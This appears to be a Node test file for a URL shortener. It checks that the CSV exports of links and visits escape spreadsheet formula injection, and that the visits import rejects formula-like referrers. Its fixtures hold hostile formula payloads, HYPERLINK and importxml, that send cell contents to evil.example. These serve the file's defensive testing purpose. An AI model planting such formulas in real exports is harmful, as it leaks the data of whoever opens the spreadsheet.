/**
 * CSV formula injection over HTTP: what anyone may set on an open instance (a title, tags, a code,
 * the Referer of a visit) comes out of `GET /api/export?format=csv` and
 * `GET /api/visits/export?format=csv` as no spreadsheet formula, and the same files imported into
 * a fresh instance give back the same exports. A Referer whose host is a formula is no referrer,
 * and the visits import refuses one.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { start, type Harness } from '../support/helpers.ts';

const KEY = 'admin-key';
/** 2024-05-01T12:00:00Z. */
const NOW = 1714564800;
const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0';

const TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
const REFERER = 'http://=importxml(concat("http",char(58),"//evil.example/?",A1))/';

/** The clock of every instance here: Unix seconds. */
let clock = NOW;
const open = (t: Parameters<typeof start>[0]): Promise<Harness> => start(t, { apiKeys: [KEY], now: () => clock * 1000, baseUrl: 'https://s.example' });

async function get(h: Harness, path: string): Promise<string> {
  const r = await h.req(path, { headers: { 'x-api-key': KEY } });
  assert.equal(r.status, 200, `${path}: ${r.body}`);
  return r.body;
}

async function post(h: Harness, path: string, type: string, body: string): Promise<unknown> {
  const r = await h.req(path, { method: 'POST', headers: { 'content-type': type, 'x-api-key': KEY }, body });
  assert.equal(r.status, 200, `${path}: ${r.body}`);
  return JSON.parse(r.body);
}

async function shorten(h: Harness, body: object): Promise<void> {
  const r = await h.req('/api/shorten', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  assert.equal(r.status, 201, r.body);
}

test('the links CSV export: a title, tags and a code that start a formula are written with a leading apostrophe, and import back unchanged', async (t) => {
  const a = await open(t);
  await shorten(a, { url: 'https://example.com/1', code: '-cmd01', title: TITLE, tags: ['-draft', 'q2'] });
  await shorten(a, { url: 'https://example.com/2', code: 'plain1', title: "'=already escaped", tags: ['+1'] });
  await shorten(a, { url: 'https://example.com/3', code: 'plain2', title: '@SUM(1)' });
  const csv = await get(a, '/api/export?format=csv');
  assert.equal(
    csv,
    'short_code,short_url,original_url,created_at,visit_count,retention_days,max_visits,title,tags,author,domain,rules,forward_query,valid_since,valid_until,fallback_url,password_hash\r\n' +
      `'-cmd01,https://s.example/-cmd01,https://example.com/1,${NOW},0,0,,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'-draft,q2",,,,false,,,,\r\n` +
      `plain1,https://s.example/plain1,https://example.com/2,${NOW},0,0,,''=already escaped,'+1,,,,false,,,,\r\n` +
      `plain2,https://s.example/plain2,https://example.com/3,${NOW},0,0,,'@SUM(1),,,,,false,,,,\r\n`,
  );
  const b = await open(t);
  assert.deepEqual(await post(b, '/api/import', 'text/csv', csv), { imported: 3, skipped: 0, errors: [] });
  assert.equal(await get(b, '/api/export?format=csv'), csv);
  assert.equal(await get(b, '/api/export'), await get(a, '/api/export'), 'the same records, titles and tags as they were set');
});

test('the visits CSV export: a Referer whose host is a formula is no referrer; a code or a host starting with - is escaped; all import back unchanged', async (t) => {
  const a = await open(t);
  for (const code of ['-cmd01', 'plain1']) await shorten(a, { url: `https://example.com/${code}`, code });
  const visits = [
    ['-cmd01', REFERER],
    ['plain1', 'https://%3D1%2B1.example/'],
    ['plain1', 'https://-x.example/page'],
    ['-cmd01', 'https://news.example/'],
  ];
  for (const [i, [code, referer]] of visits.entries()) {
    clock = NOW + i;
    assert.equal((await a.req(`/${code}`, { headers: { 'user-agent': FIREFOX, referer: referer! } })).status, 302);
  }
  clock = NOW;
  const csv = await get(a, '/api/visits/export?format=csv');
  assert.equal(
    csv,
    'short_code,time,referrer,country,browser,os,device,bot,domain,rule\r\n' +
      `'-cmd01,${NOW},,,Firefox,Linux,desktop,false,,\r\n` +
      `plain1,${NOW + 1},,,Firefox,Linux,desktop,false,,\r\n` +
      `plain1,${NOW + 2},'-x.example,,Firefox,Linux,desktop,false,,\r\n` +
      `'-cmd01,${NOW + 3},news.example,,Firefox,Linux,desktop,false,,\r\n`,
  );
  const b = await open(t);
  assert.deepEqual(await post(b, '/api/import', 'text/csv', await get(a, '/api/export?format=csv')), { imported: 2, skipped: 0, errors: [] });
  assert.deepEqual(await post(b, '/api/visits/import', 'text/csv', csv), { imported: 4, skipped: 0, errors: [] });
  assert.equal(await get(b, '/api/visits/export?format=csv'), csv);
});

test('the visits import refuses a referrer no visit records, escaped or not, each row reported by line', async (t) => {
  const h = await open(t);
  await shorten(h, { url: 'https://example.com/x', code: 'plain1' });
  const body = [
    'short_code,time,referrer',
    `plain1,${NOW},"=importxml(concat(""http"",char(58)))"`, // 2
    `plain1,${NOW},'=1+1`, // 3: escaped by an export, read as =1+1
    `plain1,${NOW},a(b).example`, // 4
    `plain1,${NOW},'-x.example`, // 5: a host, escaped
  ].join('\r\n');
  const detail =
    'referrer must be a host name as a visit records it (news.example, xn--bcher-kva.example, 192.0.2.1, [2001:db8::1]): ' +
    'letters, digits, - and _ in labels separated by dots, or an IPv6 address in brackets, up to 253 characters; or empty';
  assert.deepEqual(await post(h, '/api/visits/import', 'text/csv', body), {
    imported: 1,
    skipped: 3,
    errors: [
      { line: 2, detail },
      { line: 3, detail },
      { line: 4, detail },
    ],
  });
  assert.equal(
    await get(h, '/api/visits/export'),
    `{"short_code":"plain1","time":${NOW},"referrer":"-x.example","country":null,"browser":null,"os":null,"device":null,"bot":false,"domain":null,"rule":null}\n`,
  );
});
